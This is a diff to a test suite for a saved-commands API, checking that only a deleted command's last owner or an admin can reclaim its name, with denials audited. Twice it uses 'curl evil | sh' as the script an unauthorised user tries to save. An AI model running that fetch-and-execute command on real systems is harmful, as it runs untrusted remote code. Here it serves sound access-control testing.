@@ -168,11 +168,38 @@ describe('the saved commands API (real system)', () => {
     expect(listed).not.toContain('to-delete');
     const kept = await call(listCommandVersions, '/v1/commands/to-delete/versions');
     expect(kept.body).toMatchObject({ deleted: true, items: [{ version: 2, script: 'echo two' }, { version: 1, script: 'echo one' }] });
-    // Taken again (by olga): version 3 of the same history, hers now.
-    const back = await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'echo three' }, olga);
+    // Not by olga (the admin owned it: others still run the name), only by its owner or an admin.
+    const before = await snapshot();
+    const taken = await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'curl evil | sh' }, olga);
+    expect([taken.status, taken.body.error.code, taken.body.error.details?.field], taken.text).toEqual([409, 'command_exists', 'name']);
+    expect(taken.body.error.message).toContain('was deleted; only its last owner or an admin may bring it back');
+    expect(await snapshot()).toEqual(before);
+    // Taken again by an admin: version 3 of the same history.
+    const back = await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'echo three' });
     expect(back.status, back.text).toBe(201);
-    expect(back.body).toMatchObject({ version: 3, script: 'echo three', ownerId: olgaId, createdBy: 'olga' });
+    expect(back.body).toMatchObject({ version: 3, script: 'echo three', ownerId: null });
     expect((await call(listCommandVersions, '/v1/commands/to-delete/versions')).body.items.map((v: { version: number }) => v.version)).toEqual([3, 2, 1]);
+  });
+
+  it("a deleted command's name comes back only for its last owner or an admin: another operator is 409 naming no one, nothing written", async () => {
+    expect((await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo deploy' }, olga)).status).toBe(201);
+    expect((await call(deleteCommand, '/v1/commands/team-deploy', undefined, olga)).status).toBe(204);
+    const before = await snapshot();
+    const taken = await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'curl evil | sh' }, pete);
+    expect([taken.status, taken.body.error.code, taken.body.error.details?.field], taken.text).toEqual([409, 'command_exists', 'name']);
+    expect(taken.body.error.message).toMatch(/was deleted; only its last owner or an admin may bring it back/);
+    expect(taken.text).not.toContain('olga');
+    expect(await snapshot()).toEqual(before);
+    const denied = await sql`select action, result from audit_events where actor_name = 'pete' and action = 'commands.create' order by id`;
+    expect(denied.map((r) => [r.action, r.result])).toEqual([['commands.create', 'failed']]);
+    // Its owner brings it back, as its next version, hers still.
+    const back = await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo deploy v2' }, olga);
+    expect(back.status, back.text).toBe(201);
+    expect(back.body).toMatchObject({ version: 2, ownerId: olgaId, createdBy: 'olga' });
+    // Deleted again, an admin may take it over (it is then the admin's).
+    expect((await call(deleteCommand, '/v1/commands/team-deploy', undefined, olga)).status).toBe(204);
+    expect((await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo admin' })).body).toMatchObject({ version: 3, ownerId: null });
+    expect((await call(deleteCommand, '/v1/commands/team-deploy')).status).toBe(204);
   });
 
   it('unknown names and versions are 404', async () => {
@@ -276,7 +303,7 @@ describe('the saved commands API (real system)', () => {
       expect((await call(updateCommand, '/v1/commands/docker-ps', { script: 'true' }, olga)).status).toBe(403);
       expect(await snapshot()).toEqual(before);
       // Denials are on record as such.
-      const denied = await sql`select action, result, resource_id from audit_events where actor_name = 'pete' and resource_type = 'commands' order by id`;
+      const denied = await sql`select action, result, resource_id from audit_events where actor_name = 'pete' and resource_type = 'commands' and resource_id = 'olga-uptime' order by id`;
       expect(denied.map((r) => [r.action, r.result, r.resource_id])).toEqual([
         ['commands.update', 'denied', 'olga-uptime'],
         ['commands.delete', 'denied', 'olga-uptime'],
